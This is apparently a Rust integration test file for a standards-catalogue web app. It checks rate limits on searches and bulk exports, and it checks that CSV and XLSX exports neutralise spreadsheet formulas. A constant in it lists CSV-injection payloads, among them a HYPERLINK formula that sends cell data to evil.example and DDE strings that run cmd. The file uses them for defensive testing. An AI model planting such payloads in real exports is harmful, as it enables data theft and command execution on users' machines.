//! Downloads and their limits (issue 11, items 7 and 8): HEAD requests draw on the budget
//! of the GET they stand for, bulk exports have their own smaller budget, and no CSV export
//! lets a cell start a spreadsheet formula. See docs/reliability/security.md.

use crate::scenario;
use crate::support::*;
use biaozhun::auth::Role;
use reqwest::StatusCode;

async fn head(c: &Client, path: &str) -> StatusCode {
    c.http.head(c.url(path)).send().await.expect("HEAD").status()
}

scenario!(head_requests_draw_on_the_search_budget, |t: TestApp| async move {
    let limit = t.app.config.rate_limit.search_per_minute as usize;
    let c = t.client_from("203.0.113.70");
    let started = std::time::Instant::now();
    let mut n = 0;
    while head(&c, "/standards?q=x").await != StatusCode::TOO_MANY_REQUESTS {
        n += 1;
        let refill = (started.elapsed().as_secs_f64() * limit as f64 / 60.0).ceil() as usize;
        assert!(n <= limit + refill, "HEAD never throttled ({n} answered)");
    }
    assert!(n >= limit, "throttled early: {n}");
    // The budget is the one GET uses.
    let r = c.get("/standards?q=x").await;
    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(r.headers.contains_key("retry-after"));
    let r = c.http.head(c.url("/api/v1/standards?q=x")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(r.headers().contains_key("retry-after"));
});

scenario!(exports_have_their_own_budget, |t: TestApp| async move {
    let limit = t.app.config.rate_limit.export_per_minute as usize;
    assert!((1..t.app.config.rate_limit.search_per_minute as usize).contains(&limit), "smaller than the search budget");
    let c = t.client_from("203.0.113.71");
    let started = std::time::Instant::now();
    let mut answered = 0;
    let refused = loop {
        // CSV, XLSX and HEAD requests share the budget.
        let path = ["/standards/export.csv", "/standards/export.xlsx"][answered % 2];
        let r = if answered % 3 == 2 {
            let r = c.http.head(c.url(path)).send().await.unwrap();
            Resp { status: r.status(), headers: r.headers().clone(), text: String::new() }
        } else {
            c.get(path).await
        };
        if r.status == StatusCode::TOO_MANY_REQUESTS {
            break r;
        }
        assert_eq!(r.status, StatusCode::OK, "{path}");
        answered += 1;
        let refill = (started.elapsed().as_secs_f64() * limit as f64 / 60.0).ceil() as usize;
        assert!(answered <= limit + refill, "exports never throttled");
    };
    assert!(answered >= limit, "throttled early: {answered}");
    let wait: u64 = refused.headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert_retry_after(wait, limit);
    // Searching is still allowed: another budget.
    assert_eq!(c.get("/standards?q=x").await.status, StatusCode::OK);
    // A logged-in user from the same address has their own export budget.
    let user = t.user("exporter_budget").await;
    assert_eq!(user.get("/standards/export.csv").await.status, StatusCode::OK);
});

/// Every cell of a CSV download, read as a spreadsheet program would (BOM skipped).
fn cells(body: &str) -> Vec<Vec<String>> {
    let body = body.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(body.as_bytes()).records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
}

/// Cells that start formulas (tabs and carriage returns at the start, which imports trim,
/// are covered by the unit tests of `web::download`).
const FORMULAS: [&str; 5] = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1"];

fn assert_neutralised(what: &str, body: &str) {
    let cells = cells(body);
    for row in &cells {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{what}: a cell starts a formula: {cell:?}");
        }
    }
    for f in FORMULAS {
        let shown = format!("'{f}");
        assert!(cells.iter().flatten().any(|c| *c == shown), "{what}: {f:?} kept as text behind an apostrophe");
    }
}

async fn upload(t: &TestApp, staff: &Client, path: &str, name: &str, data: Vec<u8>) {
    let csrf = staff.csrf().await;
    let part = reqwest::multipart::Part::bytes(data).file_name(name.to_string());
    let r = staff.http.post(staff.url(&format!("{path}?_csrf={csrf}"))).multipart(reqwest::multipart::Form::new().part("file", part)).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "{path}");
    t.run_jobs().await;
    biaozhun::indexer::follow_once(&t.app).await.unwrap();
}

scenario!(csv_exports_neutralise_spreadsheet_formulas, |t: TestApp| async move {
    let staff = t.user_with_roles("formula_staff", &[Role::Staff]).await;
    // Standards whose titles start formulas.
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["标准号", "中文标准名称", "英文标准名称", "标准状态"]).unwrap();
    for (i, f) in FORMULAS.iter().enumerate() {
        w.write_record([format!("GB/T 4{i}001-2020").as_str(), f, f, "现行"]).unwrap();
    }
    upload(&t, &staff, "/staff/standards/import", "formulas.csv", w.into_inner().unwrap()).await;
    let anon = t.client_from("203.0.113.72");
    let r = anon.get("/standards/export.csv?q=GB").await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.headers["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"standards.csv\""));
    assert_neutralised("/standards/export.csv", &r.text);

    // TBT notifications whose objectives start formulas: the statistics CSV lists them.
    let record = serde_json::json!({
        "symbols": ["G/TBT/N/XYZ/1"], "notifying_member": "Viet Nam", "distribution_date": "2025-03-01",
        "title": "Formula objectives", "objectives": FORMULAS, "hs": ["841460"], "record_language": "en",
    });
    upload(&t, &staff, "/staff/tbt/import", "formulas.jsonl", format!("{record}\n").into_bytes()).await;
    let r = anon.get("/tbt/stats.csv").await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.headers["content-disposition"].to_str().unwrap().starts_with("attachment; filename=\"tbt-stats.csv\""));
    assert_neutralised("/tbt/stats.csv", &r.text);
    // XLSX cells are text, never formulas.
    let xlsx = anon.http.get(anon.url("/standards/export.xlsx?q=GB")).send().await.unwrap().bytes().await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx.to_vec())).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(), &mut sheet).unwrap();
    assert!(!sheet.contains("<f>"), "no formula cells");
});
